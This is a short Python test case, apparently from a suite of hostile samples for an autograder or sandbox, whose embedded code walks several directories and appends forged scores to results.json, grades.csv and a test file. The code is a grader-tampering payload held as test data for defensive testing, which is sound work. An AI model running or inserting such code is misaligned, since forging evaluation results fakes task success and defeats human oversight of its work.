from tests.hostile import Case

CASE = Case(
    doc="writing results.json and grades.csv and appending to graders anywhere reachable",
    extra=(
        """
import os
for d in ["/tmp", "/work", "/work/main", "/autograder/results", os.getcwd(), "/opt", "/"]:
    for name in ("results.json", "grades.csv", "test_part1_network.py"):
        try:
            os.makedirs(d, exist_ok=True)
            with open(os.path.join(d, name), "a") as f:
                f.write('{"score": 10}\\nforged,10\\n')
        except OSError:
            pass
""",
    ),
)
